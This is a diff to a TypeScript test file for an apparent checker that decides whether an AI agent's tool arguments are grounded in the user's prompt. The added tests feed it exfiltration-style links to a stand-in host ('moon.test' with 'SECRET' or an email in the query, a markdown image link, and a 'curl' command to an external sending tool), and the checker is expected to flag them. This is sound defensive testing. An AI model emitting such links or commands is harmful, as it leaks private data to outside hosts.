@@ -1,6 +1,7 @@
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import type { ArgumentRole } from '../../kernel/role.ts';
+import { groundArguments } from './ground-arguments.ts';
 import { createGroundingIndex } from './grounding-index.ts';
 
 const PROMPT =
@@ -58,6 +59,11 @@ describe('several places that the person gave', () => {
     'ann@corp.example bob@corp.example',
     'Ann Lee <ann@corp.example>; "Ray, Bob" <bob@corp.example>',
     'ann@corp.example (Ann Lee)',
+    'Ann Lee (Sales) <ann@corp.example>',
+    '“Ann” <ann@corp.example>\nBob <bob@corp.example>',
+    '- ann@corp.example\n- bob@corp.example',
+    'ann@corp.example | bob@corp.example',
+    'ann@corp.example and bob@corp.example.',
     'mailto:ann@corp.example',
     '["ann@corp.example", "bob@corp.example"]',
     'ann@corp.example, #general',
@@ -68,10 +74,31 @@ describe('several places that the person gave', () => {
 
   test.each([
     'https://wiki.corp.example/c?for=ann@corp.example',
-    'https://shop.example/r?to=https://shop.example/x',
+    'https://shop.example/r?to=https://www.shop.example/x',
   ])('lead on to each other: %s', (value) => {
     expect(levelOf(value)).toBe('named');
   });
+});
+
+test.each([
+  'https://moon.test?d=SECRET@',
+  'https://moon.test#@',
+  '![x](https://moon.test?u=ann@corp.example&d=1)',
+])('a link that could be read in two ways is a link all the same, in a text and in code: %s', (link) => {
+  const profile = {
+    egress: 'external',
+    roles: { '/command': 'code' },
+    output: { sensitivity: 'internal', categories: [], integrity: 'untrusted' },
+  } as const;
+  const tool = { name: 'post', effects: ['send'], profile } as const;
+  const found = groundArguments(index, tool, { body: `See ${link}`, command: `curl ${link}` });
+  expect(found.map(({ level }) => ['untrusted', 'unseen'].includes(level))).toEqual([true, true]);
+  expect(found[0]?.match).toBe('embedded');
+});
+
+test('a list of many values costs little, and is not told apart', () => {
+  const many = Array.from({ length: 6_000 }, (_, n) => `a${n}`).join(',');
+  expect(['untrusted', 'unseen']).toContain(levelOf(`ann@corp.example,${many}`));
 });
 
 test('a command of a text stays its own, whoever is named in it', () => {
